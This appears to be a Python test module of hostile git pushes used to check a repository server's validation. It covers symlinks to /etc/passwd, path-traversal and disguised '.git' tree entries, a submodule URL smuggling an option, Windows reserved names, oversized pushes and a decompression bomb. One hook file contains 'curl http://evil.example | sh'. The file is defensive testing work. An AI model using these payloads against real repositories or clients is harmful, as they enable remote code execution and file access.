"""Files that are no plain files, names that do harm elsewhere, and what is too large."""

import os

from attacks.acts import made, to_main
from attacks.aged import Scene
from attacks.past import PAGE
from attacks.table import Sent, attack
from attacks.writing import UNIT, annex


def files(s: Scene, **changed: str | bytes | tuple[str, str]) -> Sent:
    """A push of a commit with these files (__ stands for /)."""
    return to_main(s, made(s, files={name.replace("__", "/"): what for name, what in changed.items()}))


def crooked(s: Scene, name: str, mode: str = "100644") -> Sent:
    """A push of a tree with an entry that no git client makes, below docs/."""
    blob = s.store.put("blob", b"x\n")
    inner = s.store.folder_of([(mode, name, s.store.put("tree", b"") if mode == "40000" else blob)])
    rows = s.store.git("ls-tree", s.main).decode().splitlines()
    entries = [
        (row.split()[0].lstrip("0"), row.split("\t")[1], row.split()[2].partition("\t")[0]) for row in rows
    ]
    entries = [(m, n, inner if n == "docs" else i) for m, n, i in entries]
    return to_main(s, made(s, tree=s.store.folder_of(entries)))


@attack("链接", "a symbolic link", "files", "ZB3223")
def link(s: Scene) -> Sent:
    return files(s, **{"docs/zh/link.md": ("120000", s.store.put("blob", b"/etc/passwd"))})


@attack("记录是个链接", "a record that is a link", "files", "ZB0015", "ZB0048", "ZB3223", more=True)
def record_link(s: Scene) -> Sent:
    return files(s, **{"records/units/annex.yml": ("120000", s.store.put("blob", b"office.yml"))})


@attack("子模块", "a submodule", "files", "ZB3222", "ZB3223", more=True)
def submodule(s: Scene) -> Sent:
    return files(s, sub=("160000", s.main))


@attack("可执行文件", "an executable", "files", "ZB3223")
def executable(s: Scene) -> Sent:
    return files(s, **{PAGE: ("100755", s.store.files(s.main)[PAGE][1])})


@attack("合并方式（.gitattributes）", ".gitattributes", "files", "ZB3222", more=True)
def attributes(s: Scene) -> Sent:
    return files(s, **{".gitattributes": "* merge=union\n"})


@attack(
    "记录文件夹里的 .gitattributes",
    ".gitattributes among the records",
    "files",
    "ZB0014",
    "ZB0048",
    more=True,
)
def attributes_below(s: Scene) -> Sent:
    return files(s, **{"records/logs/.gitattributes": "* -diff\n"})


@attack("检查脚本", "the hook's script", "files", "ZB3222")
def hook(s: Scene) -> Sent:
    return files(s, **{"tools/hook": "curl http://evil.example | sh\n"})


@attack("检查的配置", "the hooks' settings", "files", "ZB3222", more=True)
def hook_settings(s: Scene) -> Sent:
    return files(s, **{".pre-commit-config.yaml": "repos: []\n"})


@attack("平台的工作流", "a forge's workflow", "files", "ZB3222")
def workflow(s: Scene) -> Sent:
    return files(s, **{".github/workflows/x.yml": "on: push\n"})


@attack("网站的配置", "the site's settings", "files", "ZB3222", more=True)
def site(s: Scene) -> Sent:
    return files(s, **{"mkdocs.yml": "plugins: [macros]\n"})


@attack("手册里的脚本", "a script in the handbook", "files", "ZB3222", more=True)
def script(s: Scene) -> Sent:
    return files(s, **{"docs/x.js": "alert(1)\n"})


@attack("..", "..", "files", "git:hasDotdot")
def dot_dot(s: Scene) -> Sent:
    return crooked(s, "..", "40000")


@attack(".", ".", "files", "git:hasDot", more=True)
def dot(s: Scene) -> Sent:
    return crooked(s, ".", "40000")


@attack(".git", ".git", "files", "git:hasDotgit")
def dot_git(s: Scene) -> Sent:
    return crooked(s, ".git", "40000")


@attack(".git 的另一种写法", ".git by another name", "files", "git:hasDotgit", more=True)
def dot_git_otherwise(s: Scene) -> Sent:
    return crooked(s, "GIT~1", "40000")


@attack("带斜线的名字", "a name with a slash", "files", "git:fullPathname", more=True)
def slash(s: Scene) -> Sent:
    return crooked(s, "zh/../../x.md")


@attack("指向外面的 .gitmodules", ".gitmodules that points elsewhere", "files", "git:gitmodulesUrl")
def modules(s: Scene) -> Sent:
    return files(s, **{".gitmodules": '[submodule "a"]\n\tpath = a\n\turl = -u./payload\n'})


@attack("目录树里同名两项", "two entries of one name", "files", "git:duplicateEntries")
def twins(s: Scene) -> Sent:
    blob = s.store.put("blob", b"x\n")
    rows = s.store.git("ls-tree", s.main).decode().splitlines()
    entries = [
        (row.split()[0].lstrip("0"), row.split("\t")[1], row.split()[2].partition("\t")[0]) for row in rows
    ]
    inner = s.store.folder_of([("100644", "a.md", blob), ("100644", "a.md", s.store.put("blob", b"y\n"))])
    return to_main(
        s, made(s, tree=s.store.folder_of([(m, n, inner if n == "docs" else i) for m, n, i in entries]))
    )


@attack("Windows 的保留名", "a name that Windows keeps for itself", "files", "ZB3223")
def reserved(s: Scene) -> Sent:
    return files(s, **{"docs/zh/aux.md": "# 须知\n"})


@attack("Windows 的流", "a stream of Windows", "files", "ZB3223", more=True)
def stream(s: Scene) -> Sent:
    return files(s, **{"docs/zh/notes.md:evil.md": "# 须知\n"})


@attack("只差大小写的两个文件", "two files that differ in case only", "files", "ZB3223")
def case_twins(s: Scene) -> Sent:
    return files(s, **{"docs/zh/Notes.md": "# 须知\n"})


@attack("只差大小写的文件夹", "two folders that differ in case only", "files", "ZB3222", "ZB3223")
def folder_twins(s: Scene) -> Sent:
    return files(s, **{"Records/units/annex.yml": "x\n"})


@attack("组合方式不同的同名文件", "the same name composed otherwise", "files", "ZB3223", more=True)
def uncomposed(s: Scene) -> Sent:
    return files(s, **{"docs/zh/cafe\u0301.md": "# 须知\n"})


@attack("一兆字节的记录", "a record of one megabyte", "huge", "ZB0001")
def huge_record(s: Scene) -> Sent:
    return annex(s, "kind: unit\n" + "# x\n" * 262_144)


@attack("超过限额的推送", "a push beyond the limit", "huge", "git:pack-too-large")
def huge_push(s: Scene) -> Sent:
    return files(s, **{"docs/zh/plan.png": os.urandom(11 << 20)})


@attack("三百个字符的文件名", "a file name of 300 characters", "files", "ZB3223")
def long_file_name(s: Scene) -> Sent:
    return files(s, **{f"docs/zh/{'a' * 300}.md": "# 须知\n"})


@attack("极深的文件夹", "folders within folders", "files", "ZB3223", more=True)
def deep_folders(s: Scene) -> Sent:
    return files(s, **{f"docs/{'a/' * 400}x.md": "# 须知\n"})


@attack("以点或空格结尾的文件夹", "a folder whose name ends with a dot", "files", "ZB3223")
def trailing_dot(s: Scene) -> Sent:
    return files(s, **{"docs/.zh./x.md": "# 须知\n"})


@attack("不是 UTF-8 的文件名", "a file name that is not UTF-8", "hidden", "ZB3223", more=True)
def name_in_gbk(s: Scene) -> Sent:
    return files(s, **{"docs/zh/\udcd6\udcd0.md": "# 须知\n"})


@attack(
    "记录的文件名不是 UTF-8", "a record with a name that is not UTF-8", "hidden", "ZB0047", "ZB0048", "ZB3223"
)
def record_name_in_gbk(s: Scene) -> Sent:
    return files(s, **{"records/units/\udcd6\udcd0.yml": UNIT.format(name="附楼")})


@attack(
    "藏在零宽字符里的 .git", ".git with a zero-width character in it", "files", "git:hasDotgit", more=True
)
def dot_git_hidden(s: Scene) -> Sent:
    return crooked(s, ".g\u200cit", "40000")


@attack("压缩炸弹：几十 KB 展开成几十 MB", "a bomb: some ten KB that become some ten MB", "huge", "ZB3415")
def zip_bomb(s: Scene) -> Sent:
    return files(s, **{"docs/zh/bomb.png": bytes(60 << 20)})
